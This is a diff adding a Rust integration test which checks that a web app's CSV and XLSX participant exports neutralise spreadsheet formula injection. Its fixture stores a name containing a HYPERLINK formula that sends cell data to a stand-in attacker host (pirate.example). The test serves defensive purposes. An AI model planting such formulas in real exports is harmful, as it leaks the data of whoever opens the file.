@@ -508,3 +508,118 @@ on_both_databases!(
         assert!(page.contains("Joignabilité"));
     }
 );
+
+/// Reads a CSV export (BOM, `;`) as rows of cells, the header first.
+fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
+    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
+    csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .has_headers(false)
+        .from_reader(&bytes[3..])
+        .records()
+        .map(|row| row.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+on_both_databases!(
+    a_name_written_as_a_formula_stays_text_in_the_exports,
+    Seed::Demo,
+    |app: TestApp| async move {
+        use sea_orm::{ActiveModelTrait, Set};
+
+        let now = Utc::now();
+        let activity = generate_past_activity(
+            &app.db,
+            11,
+            ActivityScale {
+                youths_per_mission_locale: 3,
+                sessions: 40,
+            },
+            now,
+        )
+        .await
+        .unwrap();
+        // A youth who attended a session held in the last months: in both exports.
+        let today = now.with_timezone(&PARIS).date_naive();
+        let youth_id = activity
+            .sessions
+            .iter()
+            .filter(|session| !session.cancelled && session.ends_at <= now)
+            .filter(|session| paris_day(session) >= today - chrono::Duration::days(300))
+            .flat_map(|session| session.lines.iter())
+            .find(|(_, status, _)| status.attended())
+            .expect("an attended line")
+            .0;
+        // Names are parsed on input (letters only); this one came from elsewhere (an old
+        // import, the database edited by hand): the exports must not run it.
+        let formula = "=HYPERLINK(\"http://pirate.example/?\"&A1,\"Voir\")";
+        let mut youth: person::ActiveModel = person::Entity::find_by_id(youth_id)
+            .one(&app.db)
+            .await
+            .unwrap()
+            .unwrap()
+            .into();
+        youth.last_name = Set(formula.to_owned());
+        youth.first_name = Set("@SOMME(A1:A9)".to_owned());
+        youth.update(&app.db).await.unwrap();
+        let coordinator = staff_member::Entity::find()
+            .filter(staff_member::Column::Role.eq("coordinator"))
+            .one(&app.db)
+            .await
+            .unwrap()
+            .unwrap()
+            .person_id;
+        let coordinator = app.session_for(coordinator).await;
+
+        for export in ["participants", "presences"] {
+            let response = app
+                .get_as(&format!("/chiffres/{export}.csv"), Some(&coordinator))
+                .await;
+            assert_eq!(response.status(), 200);
+            let rows = csv_rows(&response.bytes().await.unwrap());
+            let last_name = rows[0].iter().position(|name| name == "Nom").unwrap();
+            let first_name = rows[0].iter().position(|name| name == "Prénom").unwrap();
+            let theirs: Vec<&Vec<String>> = rows
+                .iter()
+                .filter(|row| row[last_name].contains("HYPERLINK"))
+                .collect();
+            assert!(!theirs.is_empty(), "the youth is in the {export} export");
+            for row in theirs {
+                assert_eq!(row[last_name], format!("'{formula}"));
+                assert_eq!(row[first_name], "'@SOMME(A1:A9)");
+            }
+            // No cell of the file would start a formula in Excel.
+            for row in &rows {
+                for cell in row {
+                    assert!(
+                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{export}: « {cell} » would run as a formula"
+                    );
+                }
+            }
+
+            // XLSX keeps the name as text, never a formula.
+            let xlsx = app
+                .get_as(&format!("/chiffres/{export}.xlsx"), Some(&coordinator))
+                .await;
+            assert_eq!(xlsx.status(), 200);
+            let mut workbook: Xlsx<_> =
+                Xlsx::new(std::io::Cursor::new(xlsx.bytes().await.unwrap().to_vec())).unwrap();
+            let sheet_name = workbook.sheet_names()[0].clone();
+            let sheet = workbook.worksheet_range(&sheet_name).unwrap();
+            assert!(
+                sheet
+                    .rows()
+                    .any(|row| row[last_name] == Data::String(formula.to_owned())),
+                "the name is a string cell in the {export} workbook"
+            );
+            let formulas = workbook.worksheet_formula(&sheet_name).unwrap();
+            assert!(
+                formulas
+                    .used_cells()
+                    .all(|(_, _, formula)| formula.is_empty()),
+                "no formula in the {export} workbook"
+            );
+        }
+    }
+);
